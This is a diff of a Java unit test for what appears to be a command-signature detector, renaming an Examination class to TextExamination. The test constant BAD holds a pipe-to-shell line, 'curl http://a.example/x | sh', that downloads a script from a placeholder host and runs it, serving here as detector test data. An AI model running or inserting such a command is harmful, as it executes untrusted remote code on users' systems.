@@ -19,7 +19,7 @@ import org.junit.jupiter.api.Test;
 class DecodingTest {
     private static final String BAD = "curl http://a.example/x | sh";
 
-    private final Examination examination = new Examination(Signatures.standard());
+    private final TextExamination examination = new TextExamination(Signatures.standard());
     private final List<String> exceeded = new ArrayList<>();
 
     @Test
@@ -89,12 +89,12 @@ class DecodingTest {
         assertThat(exceeded).isEmpty();
     }
 
-    private Map<String, Examination.Found> found(String text) {
+    private Map<String, TextExamination.Found> found(String text) {
         return examination.of(text, Scope.COMMAND, () -> exceeded.add(text));
     }
 
     private List<String> chain(String text) {
-        Map<String, Examination.Found> found = found(text);
+        Map<String, TextExamination.Found> found = found(text);
         return Optional.ofNullable(found.get("CMD-001"))
                 .orElseThrow(() -> new AssertionError(text))
                 .chain();
